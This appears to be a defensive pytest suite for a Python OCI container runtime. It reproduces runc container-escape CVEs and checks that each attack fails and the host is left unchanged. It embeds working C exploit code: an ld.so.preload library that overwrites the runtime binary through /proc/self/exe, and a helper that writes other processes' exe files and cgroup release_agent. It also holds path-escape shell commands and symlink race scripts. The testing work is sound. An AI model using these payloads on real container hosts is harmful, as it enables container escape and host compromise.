"""The runc CVE classes, each attacked with its own technique against
runpy-oci (and, where runc is the oracle and it is cheap, against runc): the
attack must fail and the host must be unharmed.

Attacks that could damage the runtime's binary if they worked run against a
throwaway copy of it (a ``venv --copies`` interpreter for runpy-oci, a copy of
the runc binary), so the host's own python and runc are never at risk; the
real ones are hashed around every test all the same. Native attack code (an
ld.so.preload library, a static helper) is compiled once per session."""
import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time
import uuid

import pytest

pytestmark = [pytest.mark.root,
              pytest.mark.skipif(shutil.which("gcc") is None, reason="the attack code needs gcc")]

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
RUNPY = os.path.join(os.path.dirname(sys.executable), "runpy-oci")
RUNC = shutil.which("runc") or "/usr/sbin/runc"
INTERPRETER = os.path.realpath(sys.executable)
LIBPYTHON = os.path.join(sysconfig.get_config_var("LIBDIR") or "", sysconfig.get_config_var("INSTSONAME") or "-")

# --- attack code -------------------------------------------------------------

# ld.so.preload payload: runs inside whatever dynamic binary the container
# manages to execute, i.e. the runtime's own when /bin/sh is "#!/proc/self/exe".
EVIL_SO = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void say(const char *fmt, ...) {
    char buf[4200]; va_list ap; va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap); va_end(ap);
    buf[n++] = '\n';
    int fd = open("/attack.log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) { write(fd, buf, n); close(fd); }
}
__attribute__((constructor)) static void attack(void) {
    char exe[4096] = "";
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0) exe[n] = 0;
    say("ran exe=%s", exe);
    int w = open("/proc/self/exe", O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0) {
        say("open-wronly OK write=%zd", write(w, "PWNED\n", 6));
        close(w);
    } else {
        say("open-wronly %s", strerror(errno));
    }
    int p = open("/proc/self/exe", O_PATH);
    say("open-path %s", p >= 0 ? "OK" : strerror(errno));
    if (p >= 0 && p != 3) { dup2(p, 3); close(p); }
    if (fork() == 0) {  /* outlives the runtime: reopen the binary once nobody runs it */
        setsid();
        execl("/bin/busybox", "sh", "-c",
              "i=0; while [ $i -lt 60 ]; do"
              "  if echo PWNED 2>>/attack.log >> /proc/self/fd/3; then echo reopen-write OK >> /attack.log; exit; fi;"
              "  i=$((i+1)); sleep 0.05; done; echo reopen-write gave up >> /attack.log", (char *)0);
        _exit(127);
    }
    _exit(0);
}
"""

# A static helper for the container: "scan SECONDS" opens /proc/PID/exe of every
# process that is not a container program and tries to write it, at once and
# (through /proc/self/fd) after it is gone; "cgroup" is CVE-2022-0492.
HELPER = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static void put(const char *path, const char *s) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) { write(fd, s, strlen(s)); close(fd); }
}
static int scan(double seconds) {
    int seen[4096], nseen = 0, fds[256], nfds = 0;
    char self[4096] = "";
    readlink("/proc/self/exe", self, sizeof self - 1);
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name), k, known = 0;
            if (pid <= 1 || pid == getpid()) continue;
            for (k = 0; k < nseen; k++) if (seen[k] == pid) known = 1;
            if (known) continue;
            char path[64], exe[4096] = "", comm[64] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            int c = open(path, O_RDONLY);
            if (c >= 0) { ssize_t n = read(c, comm, 63); comm[n > 0 ? n - 1 : 0] = 0; close(c); }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, exe, sizeof exe - 1);
            if (n > 0) exe[n] = 0;
            if (n > 0 && (strcmp(exe, "/bin/busybox") == 0 || strcmp(exe, self) == 0)) continue;
            if (nseen < 4096) seen[nseen++] = pid;
            if (n <= 0) { printf("pid %d comm=%s readlink %s\n", pid, comm, strerror(errno)); continue; }
            int p = open(path, O_PATH | O_CLOEXEC);
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            printf("pid %d comm=%s exe=%s o_path=%s ", pid, comm, exe, p >= 0 ? "OK" : strerror(errno));
            if (w >= 0) { printf("open-wronly OK write=%zd\n", write(w, "PWNED\n", 6)); close(w); }
            else printf("open-wronly %s\n", strerror(errno));
            if (p >= 0 && nfds < 256) fds[nfds++] = p; else if (p >= 0) close(p);
        }
        if (d) closedir(d);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 < seconds);
    for (int i = 0; i < nfds; i++) {  /* the processes are gone: reopen for writing */
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) { printf("reopen-write OK write=%zd\n", write(w, "PWNED\n", 6)); close(w); }
        else printf("reopen-write %s\n", strerror(errno));
    }
    printf("scan done\n");
    return 0;
}
static void try_release_agent(const char *how) {
    static const char *opts[] = {"memory", "pids", "cpu,cpuacct", "cpuset", "devices", "freezer", "blkio",
                                 "rdma", "net_cls,net_prio", "perf_event", "hugetlb", "misc",
                                 "none,name=systemd", "none,name=cve", 0};
    mkdir("/tmp/cg", 0755);
    for (int i = 0; opts[i]; i++) {
        if (mount("cgroup", "/tmp/cg", "cgroup", 0, opts[i]) != 0) {
            printf("%s mount %s: %s\n", how, opts[i], strerror(errno));
            continue;
        }
        int fd = open("/tmp/cg/release_agent", O_WRONLY | O_CLOEXEC);
        if (fd < 0) printf("%s release_agent %s open: %s\n", how, opts[i], strerror(errno));
        else {
            ssize_t n = write(fd, "/pwned\n", 7);
            printf("%s release_agent %s write: %s\n", how, opts[i], n == 7 ? "OK" : strerror(errno));
            close(fd);
        }
        umount2("/tmp/cg", MNT_DETACH);
    }
}
static int cgroup_attack(void) {
    try_release_agent("direct");
    uid_t uid = geteuid(); gid_t gid = getegid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
        printf("unshare: %s\n", strerror(errno));
    } else {
        char m[64];
        put("/proc/self/setgroups", "deny");
        snprintf(m, sizeof m, "0 %d 1", uid); put("/proc/self/uid_map", m);
        snprintf(m, sizeof m, "0 %d 1", gid); put("/proc/self/gid_map", m);
        mount(0, "/", 0, MS_REC | MS_PRIVATE, 0);
        try_release_agent("userns");
    }
    printf("cgroup done\n");
    return 0;
}
int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IOLBF, 0);
    if (argc > 2 && strcmp(argv[1], "scan") == 0) return scan(atof(argv[2]));
    if (argc > 1 && strcmp(argv[1], "cgroup") == 0) return cgroup_attack();
    return 2;
}
"""


@pytest.fixture(scope="session")
def attack_code(tmp_path_factory):
    d = tmp_path_factory.mktemp("attack")
    (d / "evil.c").write_text(EVIL_SO)
    (d / "helper.c").write_text(HELPER)
    subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", str(d / "evil.so"), str(d / "evil.c")],
                   check=True, capture_output=True)
    subprocess.run(["gcc", "-static", "-O1", "-o", str(d / "helper"), str(d / "helper.c")],
                   check=True, capture_output=True)
    return d


# --- runtimes ----------------------------------------------------------------

class Other:
    """Like conftest's Runtime, for another binary (runc, or a runpy-oci copy)."""

    def __init__(self, name, binary, root):
        self.name, self.binary, self.root, self.ids = name, binary, root, []

    def __call__(self, *args, timeout=30, pass_fds=()):
        return call(self.binary, self.root, args, timeout, pass_fds)

    def new_id(self):
        cid = "cve-" + uuid.uuid4().hex[:10]
        self.ids.append(cid)
        return cid

    def cleanup(self):
        for cid in self.ids:
            self("delete", "--force", cid)


def call(binary, root, args, timeout=30, pass_fds=()):
    """A verb, output through files (a detached container would hold a pipe)."""
    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        r = subprocess.run([binary, "--root", root, *args], stdout=out, stderr=err, text=True,
                           stdin=subprocess.DEVNULL, timeout=timeout, pass_fds=pass_fds)
        out.seek(0)
        err.seek(0)
        return subprocess.CompletedProcess(r.args, r.returncode, out.read(), err.read())


def invoke(rt, *args, **kw):
    return call(rt.binary, rt.root, args, **kw)


@pytest.fixture(params=["runpy-oci", "runc"])
def rt(request, runtime, tmp_path):
    """runpy-oci (conftest's runtime fixture) or runc, the oracle."""
    if request.param == "runpy-oci":
        runtime.name = "runpy-oci"
        yield runtime
        return
    if not os.access(RUNC, os.X_OK):
        pytest.skip("runc is not installed")
    other = Other("runc", RUNC, str(tmp_path / "runc-state"))
    try:
        yield other
    finally:
        other.cleanup()


@pytest.fixture(params=["runpy-oci", "runc"])
def rt_copy(request, tmp_path):
    """The runtime run from a throwaway copy of its binary; ``.exe`` is the file
    its processes have as /proc/self/exe (for runpy-oci: the interpreter)."""
    d = tmp_path / "copy"
    if request.param == "runpy-oci":
        venv = d / "venv"
        subprocess.run([INTERPRETER, "-m", "venv", "--copies", "--without-pip", str(venv)], check=True)
        site = venv / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
        ours = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(sys.executable))), "lib",
                            site.parent.name, "site-packages")
        (site / "main-venv.pth").write_text(f"import site; site.addsitedir({ours!r})\n")
        exe = venv / "bin" / os.path.basename(INTERPRETER)
        launcher = venv / "bin" / "runpy-oci"
        with open(RUNPY) as f:
            f.readline()
            launcher.write_text(f"#!{exe}\n" + f.read())
        launcher.chmod(0o755)
        other = Other("runpy-oci", str(launcher), str(tmp_path / "state"))
    else:
        if not os.access(RUNC, os.X_OK):
            pytest.skip("runc is not installed")
        d.mkdir()
        exe = d / "runc"
        shutil.copy2(RUNC, exe)
        other = Other("runc", str(exe), str(tmp_path / "runc-state"))
    other.exe = str(exe)
    try:
        yield other
    finally:
        other.cleanup()


# --- the host stays as it was ----------------------------------------------

def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def protected_files():
    """The binaries a container could reach through /proc/PID/exe or
    map_files: interpreter, libpython, the launchers, the C extensions, runc.
    (Not runpy_oci's .py sources: those change while people work.)"""
    files = [INTERPRETER, RUNPY, RUNC, LIBPYTHON, os.path.join(REPO, "scripts", "runpy-oci")]
    for dirpath, dirnames, names in os.walk(os.path.join(REPO, "runpy_oci")):
        dirnames[:] = [n for n in dirnames if n != "__pycache__"]
        files += [os.path.join(dirpath, n) for n in names if n.endswith(".so")]
    return sorted(f for f in set(files) if os.path.isfile(f))


def release_agents():
    found = {}
    for name in sorted(os.listdir("/sys/fs/cgroup")):
        path = os.path.join("/sys/fs/cgroup", name, "release_agent")
        if os.path.exists(path):
            with open(path) as f:
                found[path] = f.read()
    return found


def host_state():
    with open("/proc/sys/kernel/core_pattern") as f:
        core = f.read()
    return {"hashes": {p: sha256(p) for p in protected_files()}, "core_pattern": core,
            "release_agents": release_agents()}


@pytest.fixture(autouse=True)
def host_unharmed():
    before = host_state()
    yield
    assert host_state() == before


def mounts_under(path):
    with open("/proc/self/mountinfo") as f:
        return [line for line in f if str(path) in line]


# --- helpers -----------------------------------------------------------------

def make_config(bundle, args, change=None):
    """bundle(...) writes config.json; this also returns it for inspection."""
    path = bundle(args=args, change=change)
    return path, json.loads((bundle.path / "config.json").read_text())


def wait_for(path, text, timeout=10.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if os.path.exists(path) and text in open(path, errors="replace").read():
            return True
        time.sleep(0.05)
    return False


def read(path):
    return open(path, errors="replace").read() if os.path.exists(path) else ""


def plant_libraries(rootfs, binary):
    """What a glibc image has anyway: the binary's shared libraries, at the
    paths its loader looks for them."""
    out = subprocess.run(["ldd", binary], capture_output=True, text=True, check=True).stdout
    for line in out.splitlines():
        parts = line.split()
        lib = parts[2] if "=>" in parts and len(parts) > 2 else parts[0]
        if lib.startswith("/"):
            dest = os.path.join(rootfs, lib.lstrip("/"))
            os.makedirs(os.path.dirname(dest), exist_ok=True)
            shutil.copy2(os.path.realpath(lib), dest)


# --- CVE-2019-5736: overwriting the runtime's binary through /proc/self/exe ---

def test_5736_shebang_proc_self_exe(rt_copy, bundle, attack_code):
    """CVE-2019-5736: /bin/sh is "#!/proc/self/exe", so `exec sh` re-executes
    the runtime's own binary in the container; a preloaded library then opens
    it O_WRONLY and, after the runtime exits, via an O_PATH fd reopened
    through /proc/self/fd."""
    rootfs = bundle.path / "rootfs"
    plant_libraries(str(rootfs), rt_copy.exe)
    shutil.copy(attack_code / "evil.so", rootfs / "evil.so")
    (rootfs / "etc" / "ld.so.preload").write_text("/evil.so\n")
    (rootfs / "bin" / "sh").unlink()
    (rootfs / "bin" / "sh").write_text("#!/proc/self/exe\n")
    (rootfs / "bin" / "sh").chmod(0o755)
    before = sha256(rt_copy.exe)
    cid = rt_copy.new_id()
    r = rt_copy("run", "-d", "--bundle", bundle(args=["sleep", "60"]), cid)
    assert r.returncode == 0, r.stderr
    r = rt_copy("exec", cid, "sh")
    log = str(rootfs / "attack.log")
    if "ran exe=" in read(log):
        assert wait_for(log, "reopen-write "), read(log)
    rt_copy("delete", "--force", cid)
    result = read(log)
    assert sha256(rt_copy.exe) == before, f"{rt_copy.name}'s binary was overwritten:\n{result}"
    assert "open-wronly OK" not in result and "reopen-write OK" not in result, result


def test_5736_container_opens_runtime_exe(rt_copy, bundle, attack_code):
    """CVE-2019-5736: while `exec` runs, a container process opens
    /proc/PID/exe of every runtime process it can see, O_WRONLY and as O_PATH,
    and reopens those for writing through /proc/self/fd once they are gone."""
    rootfs = bundle.path / "rootfs"
    shutil.copy(attack_code / "helper", rootfs / "helper")
    before = sha256(rt_copy.exe)
    cid = rt_copy.new_id()
    path = bundle(args=["sh", "-c", "/helper scan 4 > /scan.log 2>&1; sleep 60"])
    r = rt_copy("run", "-d", "--bundle", path, cid)
    assert r.returncode == 0, r.stderr
    deadline = time.monotonic() + 3
    execs = 0
    while time.monotonic() < deadline:
        rt_copy("exec", cid, "true")
        execs += 1
    log = str(rootfs / "scan.log")
    assert wait_for(log, "scan done"), read(log)
    rt_copy("delete", "--force", cid)
    result = read(log)
    assert sha256(rt_copy.exe) == before, f"{rt_copy.name}'s binary was overwritten:\n{result}"
    assert "open-wronly OK" not in result and "reopen-write OK" not in result, result


# --- CVE-2024-21626: leaked descriptors, a cwd outside the rootfs -------------

def fd_listing(stdout):
    return sorted(int(n) for n in stdout.split())


def test_21626_no_descriptor_leaks(rt, bundle, tmp_path):
    """CVE-2024-21626: the program sees only 0, 1 and 2, after `run` and
    after `exec`, even when the caller leaks a descriptor of a host directory."""
    leaked = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        list_fds = ["sh", "-c", "ls /proc/$$/fd; :"]  # the shell's own, not ls's
        r = invoke(rt, "run", "--bundle", bundle(args=list_fds), rt.new_id(), pass_fds=(leaked,))
        assert r.returncode == 0, r.stderr
        assert fd_listing(r.stdout) == [0, 1, 2]
        cid = rt.new_id()
        r = invoke(rt, "run", "-d", "--bundle", bundle(args=["sleep", "60"]), cid, pass_fds=(leaked,))
        assert r.returncode == 0, r.stderr
        r = invoke(rt, "exec", cid, *list_fds, pass_fds=(leaked,))
        assert r.returncode == 0, r.stderr
        assert fd_listing(r.stdout) == [0, 1, 2]
    finally:
        os.close(leaked)


ESCAPE = "cd ../../../../../../../../../..; cat {secret}"


def test_21626_cwd_through_proc_self_fd(rt, bundle, tmp_path):
    """CVE-2024-21626: process.cwd and `exec --cwd` of /proc/self/fd/N, for
    the runtime's own descriptors and one the caller leaks (a host directory),
    are refused or land inside the container: `..` never reaches the host."""
    secret = tmp_path / "secret"
    secret.write_text("host-secret-" + uuid.uuid4().hex)
    leaked = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        candidates = sorted(set(range(3, 12)) | {leaked})
        script = ["sh", "-c", ESCAPE.format(secret=secret)]
        outputs = []
        for n in candidates:
            def change(c, n=n):
                c["process"]["cwd"] = f"/proc/self/fd/{n}"
            r = invoke(rt, "run", "--bundle", bundle(args=script, change=change), rt.new_id(),
                       pass_fds=(leaked,))
            outputs.append((f"run cwd=/proc/self/fd/{n}", r))
        cid = rt.new_id()
        r = invoke(rt, "run", "-d", "--bundle", bundle(args=["sleep", "60"]), cid, pass_fds=(leaked,))
        assert r.returncode == 0, r.stderr
        for n in candidates:
            r = invoke(rt, "exec", "--cwd", f"/proc/self/fd/{n}", cid, *script, pass_fds=(leaked,))
            outputs.append((f"exec --cwd /proc/self/fd/{n}", r))
    finally:
        os.close(leaked)
    escaped = [how for how, r in outputs if secret.read_text() in r.stdout]
    assert escaped == [], f"the host's files were reachable from the cwd of: {escaped}"


# --- CVE-2021-30465 and CVE-2025-31133: symlinks at mount targets and masks ---

def test_30465_symlinked_mount_destinations(rt, bundle, tmp_path):
    """CVE-2021-30465: mount destinations through symlinks planted in the
    rootfs (absolute, and ../ climbing) that name a host directory: the mounts
    and the files made for them stay inside the rootfs."""
    escape = tmp_path / "escape"
    escape.mkdir()
    source = tmp_path / "source.txt"
    source.write_text("bound")
    rootfs = bundle.path / "rootfs"
    os.symlink(str(escape), rootfs / "abs")
    os.symlink("../../../../../../../../.." + str(escape), rootfs / "rel")

    def change(c):
        c["mounts"] += [
            {"destination": "/abs/tmpfs", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]},
            {"destination": "/rel/file", "type": "bind", "source": str(source), "options": ["bind"]},
            {"destination": "/abs/deeper/dir", "type": "bind", "source": str(tmp_path), "options": ["rbind"]},
        ]
    r = rt("run", "--bundle", bundle(args=["sh", "-c", "cat /rel/file"], change=change), rt.new_id())
    assert os.listdir(escape) == [], f"{rt.name} made {os.listdir(escape)} on the host"
    assert mounts_under(escape) == []
    assert r.returncode == 0, r.stderr
    assert r.stdout == "bound"


def test_30465_destination_swapped_for_a_symlink(runtime, bundle, tmp_path):
    """CVE-2021-30465: a container sharing a volume swaps a directory in it
    for a symlink to a host directory, racing the runtime that mounts another
    container's volumes below that directory."""
    escape = tmp_path / "escape"
    escape.mkdir()
    shared = tmp_path / "shared"
    shared.mkdir()
    volume = {"destination": "/shared", "type": "bind", "source": str(shared), "options": ["rbind"]}
    swap = (f"while :; do rm -rf /shared/d; mkdir /shared/d; rm -rf /shared/d; "
            f"ln -s {escape} /shared/d; done")
    attacker = runtime.new_id()
    r = runtime("run", "-d", "--bundle", bundle(args=["sh", "-c", swap], change=lambda c: c["mounts"].append(volume)),
                attacker)
    assert r.returncode == 0, r.stderr

    def victim(c):
        c["mounts"] += [volume,
                        {"destination": "/shared/d/t", "type": "tmpfs", "source": "tmpfs", "options": []},
                        {"destination": "/shared/d/f", "type": "bind", "source": str(tmp_path / "secret"),
                         "options": ["bind"]}]
    (tmp_path / "secret").write_text("x")
    path = bundle(args=["true"], change=victim)
    for _ in range(25):
        runtime("run", "--bundle", path, runtime.new_id())
    runtime("delete", "--force", attacker)
    assert os.listdir(escape) == [], f"runpy-oci made {os.listdir(escape)} on the host"
    assert mounts_under(escape) == []


def without_dev_tmpfs(c):
    c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/dev"]


@pytest.mark.parametrize("rt", ["runpy-oci", pytest.param("runc", marks=pytest.mark.xfail(
    strict=True, reason="runc < 1.2.8 binds whatever /dev/null names over masked paths (CVE-2025-31133)"))],
    indirect=True)
def test_31133_dev_null_symlink_masks(rt, bundle):
    """CVE-2025-31133: the image's /dev/null is a symlink to
    /proc/sys/kernel/core_pattern, so masking /proc/kcore "with /dev/null"
    would hand the container a writable core_pattern."""
    rootfs = bundle.path / "rootfs"
    (rootfs / "dev").mkdir(exist_ok=True)
    os.symlink("/proc/sys/kernel/core_pattern", rootfs / "dev" / "null")
    r = rt("run", "--bundle", bundle(args=["stat", "-c", "%F %t:%T", "/proc/kcore"], change=without_dev_tmpfs),
           rt.new_id())
    if r.returncode == 0:
        assert r.stdout.strip() == "character special file 1:3", r.stdout
    else:
        assert "null" in r.stderr, r.stderr


# --- CVE-2025-52881: the runtime's writes to /proc redirected ------------------

def redirect_sysctl_by_bind(c, victim, tmp_path):
    c["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    c["mounts"].append({"destination": "/proc/sys/net/ipv4/ip_forward", "type": "bind",
                        "source": str(victim), "options": ["bind"]})


def redirect_sysctl_by_symlink(c, victim, tmp_path):
    """A bind of an image directory over /proc/sys/net whose ipv4/ip_forward
    is a symlink to a file of a host volume."""
    c["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    c["mounts"] += [{"destination": "/vol", "type": "bind", "source": str(victim.parent), "options": ["rbind"]},
                    {"destination": "/proc/sys/net", "type": "bind", "source": "evil-net", "options": ["rbind"]}]


def redirect_oom_score_adj(c, victim, tmp_path):
    c["process"]["oomScoreAdj"] = 100
    c["mounts"].append({"destination": "/proc/1/oom_score_adj", "type": "bind",
                        "source": str(victim), "options": ["bind"]})


@pytest.mark.parametrize("redirect", [redirect_sysctl_by_bind, redirect_sysctl_by_symlink, redirect_oom_score_adj],
                         ids=["sysctl-bind", "sysctl-symlink", "oom_score_adj-bind"])
def test_52881_proc_writes_not_redirected(rt, bundle, tmp_path, redirect):
    """CVE-2025-52881: a mount over the /proc file the runtime writes (a host
    file bound there, or a symlink from a bound image directory) must not
    turn the runtime's write into a write of that file."""
    vol = tmp_path / "vol"
    vol.mkdir()
    victim = vol / "victim"
    victim.write_text("untouched\n")
    evil = bundle.path / "rootfs" / "evil-net" / "ipv4"
    evil.mkdir(parents=True)
    os.symlink("/vol/victim", evil / "ip_forward")
    r = rt("run", "--bundle", bundle(args=["true"], change=lambda c: redirect(c, victim, tmp_path)), rt.new_id())
    assert victim.read_text() == "untouched\n", f"{rt.name} wrote the host file (exit {r.returncode}: {r.stderr})"


# --- CVE-2022-0492: cgroup v1 release_agent -------------------------------------

def test_0492_release_agent_unreachable(rt, bundle, attack_code):
    """CVE-2022-0492: without CAP_SYS_ADMIN the container mounts cgroup v1
    (directly, and from a new user+cgroup namespace) and writes
    release_agent; no write succeeds and the host's agents stay as they were."""
    rootfs = bundle.path / "rootfs"
    shutil.copy(attack_code / "helper", rootfs / "helper")
    path, config = make_config(bundle, ["/helper", "cgroup"])
    assert "CAP_SYS_ADMIN" not in json.dumps(config["process"]["capabilities"])
    r = rt("run", "--bundle", path, rt.new_id())
    assert r.returncode == 0, r.stderr
    assert "cgroup done" in r.stdout, r.stdout
    assert " write: OK" not in r.stdout, r.stdout
